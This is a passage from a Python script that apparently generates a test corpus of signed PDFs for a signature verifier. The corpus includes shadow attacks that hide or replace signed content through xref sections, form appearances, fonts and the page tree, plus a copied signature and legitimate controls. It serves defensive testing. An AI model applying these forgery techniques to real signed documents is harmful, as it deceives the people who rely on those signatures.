        "hide_and_replace",
        "hide-and-replace via xref only",
        "The update holds no object, only an xref section pointing the page's content "
        "stream number at the hidden forged body of that number.",
    ),
    "control_form_filled.pdf": Entry(
        "control",
        "legitimate form fill after an approval signature",
        "Monto filled with USD 2.000,00: a new /V and an appearance showing exactly that, "
        "made from the field's /DA.",
        "valid",
    ),
    "control_second_signature.pdf": Entry(
        "control",
        "legitimate second approval signature",
        "The signed form signed again (B-B) by a second official.",
        "valid",
    ),
    "control_b_lta.pdf": Entry(
        "control",
        "B-LTA update (DSS and document timestamp)",
        "The resolution signed at B-LTA with docsvc's signer: a DSS and a document "
        "timestamp in an update after the signature.",
        "valid",
    ),
    "attack_copied_signature.pdf": Entry(
        "other",
        "copied signature value (not a shadow attack)",
        "Another document's signature value pasted into this one's /Contents.",
    ),
}


def docsvc_says(path: Path, root: Path) -> str:
    """What ``docsvc verify --json`` says, in one line."""
    result = subprocess.run(
        [sys.executable, "-m", "docsvc", "verify", str(path), "--json", "--trust", str(root)],
        capture_output=True,
        text=True,
        check=False,
    )
    if result.returncode == 2:
        return (result.stderr.strip() or result.stdout.strip()).removeprefix("error: ")
    report = json.loads(result.stdout)
    parts = [report["verdict"]]
    for signature in report["signatures"]:
        reasons = "; ".join(signature["reasons"]) or "no reasons"
        parts.append(
            f"{signature['field']}: {signature['verdict']}, modifications_after="
            f"{signature['modifications_after']}, intact={str(signature['intact']).lower()}"
            f" ({reasons})"
        )
    parts += report["reasons"]
    return "; ".join(parts)


def write_expected(
    folder: Path, paper: str | Callable[[Entry], str], catalogue: Mapping[str, Entry], record: bool
) -> None:
    """expected.json: the catalogue, and docsvc's answers (recorded now, or kept)."""
    target = folder / "expected.json"
    kept: dict[str, str] = {}
    if target.exists():
        kept = {
            name: item.get("docsvc_today", "")
            for name, item in json.loads(target.read_text())["files"].items()
        }
    root = folder / "root.pem"
    files = {}
    for name, entry in catalogue.items():
        assert (folder / name).exists(), name
        files[name] = {
            "paper": paper if isinstance(paper, str) else paper(entry),
            "class": entry.cls,
            "variant": entry.variant,
            "what": entry.what,
            "trust": ["root.pem"],
            "verdict": entry.verdict,
            "docsvc_today": docsvc_says(folder / name, root) if record else kept.get(name, ""),
        }
    listed = {p.name for p in folder.glob("*.pdf")}
    assert listed == set(files), f"not catalogued: {listed ^ set(files)}"
    target.write_text(json.dumps({"files": files}, ensure_ascii=False, indent=2) + "\n")


def signer_in(work: Path, key: SigningKey) -> Callable[[bytes, str], bytes]:
    """``sign(data, name)``: ``data`` signed at B-B with ``key``, as docsvc signs."""

    def sign(data: bytes, name: str) -> bytes:
        source, target = work / f"{name}.in.pdf", work / f"{name}.pdf"
        source.write_bytes(data)
        sign_file(source, target, key, SignatureRequest(Level.B_B))
        return target.read_bytes()

    return sign


def _paper(entry: Entry) -> str:
    return "none" if entry.cls == "other" else PAPER


def main(argv: Iterable[str] = ()) -> None:
    options = set(argv)
    if "--record-only" in options:
        write_expected(OUT, _paper, CATALOGUE, record=True)
        return
    base = _base()
    OUT.mkdir(exist_ok=True)
    now = dt.datetime.now(dt.UTC)
    pki = base.long_lived_pki(now)
    signer = base.official(pki, "Ana María Rojas", "ministra", now - base.BACKDATED)
    second = base.official(pki, "Luis Posterior", "lposterior", now - base.BACKDATED)
    key = unlock_pkcs12(signer.pkcs12, base.PIN)
    root_der = pki.root.certificate.public_bytes(Encoding.DER)
    (OUT / "root.pem").write_bytes(pki.root.certificate.public_bytes(Encoding.PEM))
    unsigned = SOURCE.read_bytes()
    files: dict[str, bytes] = {}
    with tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)
        signed = signer_in(work, key)

        hide_signed = signed(prepared_for_hide(unsigned), "hide")
        replace_signed = signed(prepared_for_replace(unsigned), "replace")
        files["shadow_hide_signed.pdf"] = hide_signed
        files["attack_shadow_hide.pdf"] = hide(hide_signed)
        files["shadow_replace_signed.pdf"] = replace_signed
        files["attack_shadow_replace.pdf"] = replace(replace_signed)
        other = signed(demo_documents()[0].pdf, "donor")  # another document, same signer
        plain = signed(unsigned, "plain")
        files["attack_copied_signature.pdf"] = copied_signature(plain, other)

        prepared, empty_body = prepared_with_cover_xobject(unsigned)
        cover_signed = signed(prepared, "cover")
        files["shadow_cover_xobject_signed.pdf"] = cover_signed
        files["attack_shadow_hide_via_xobject.pdf"] = hide_via_xobject(cover_signed)
        files["attack_shadow_hide_via_resources.pdf"] = hide_via_resources(cover_signed)
        files["attack_shadow_hide_via_xref.pdf"] = hide_via_xref(cover_signed, empty_body)

        form_signed = signed(prepared_with_form(unsigned), "form")
        files["shadow_form_signed.pdf"] = form_signed
        files["attack_shadow_hide_via_form_appearance.pdf"] = hide_via_form_appearance(form_signed)
        files["attack_shadow_replace_via_form_appearance.pdf"] = replace_via_form_appearance(
            form_signed
        )
        files["attack_shadow_hide_via_form_appearance_stream.pdf"] = (
            hide_via_form_appearance_stream(form_signed)
        )
        files["attack_shadow_replace_via_form_appearance_stream.pdf"] = (
            replace_via_form_appearance_stream(form_signed)
        )
        files["attack_shadow_replace_via_form_value_mismatch.pdf"] = (
            replace_via_form_value_mismatch(form_signed)
        )
        files["control_form_filled.pdf"] = filled_form(form_signed)
        files["control_second_signature.pdf"] = signer_in(
            work, unlock_pkcs12(second.pkcs12, base.PIN)
        )(form_signed, "second")

        font_signed = signed(prepared_with_amount_font(unsigned), "font")
        files["shadow_font_signed.pdf"] = font_signed
        files["attack_shadow_replace_via_font.pdf"] = replace_via_font(font_signed)
        files["attack_shadow_replace_via_font_resource.pdf"] = replace_via_font_resource(
            font_signed
        )

        hidden = prepared_with_hidden_content(unsigned)
        hidden_signed = signed(hidden.document, "hidden")
        files["shadow_hidden_content_signed.pdf"] = hidden_signed
        files["attack_shadow_hide_and_replace.pdf"] = hide_and_replace_contents(
            hidden_signed, hidden
        )
        files["attack_shadow_hide_and_replace_via_page_tree.pdf"] = hide_and_replace_page_tree(
            hidden_signed, hidden
        )
        files["attack_shadow_hide_and_replace_via_xref.pdf"] = hide_and_replace_xref(
            hidden_signed, hidden
        )

        source, target = work / "lta.in.pdf", work / "lta.pdf"
        source.write_bytes(unsigned)
        material = ValidationMaterial(trust_roots=(root_der,), crls=(build_crl(pki, [], number=1),))
        sign_file(
            source, target, key, SignatureRequest(Level.B_LTA), base.timestamper(pki), material
        )
        files["control_b_lta.pdf"] = target.read_bytes()
    for old in OUT.glob("*.pdf"):
        old.unlink()
    for name, data in files.items():
        (OUT / name).write_bytes(data)
    write_expected(OUT, _paper, CATALOGUE, record="--record" in options)
    print(f"wrote {sorted(p.name for p in OUT.iterdir())}")


if __name__ == "__main__":
    main(sys.argv[1:])
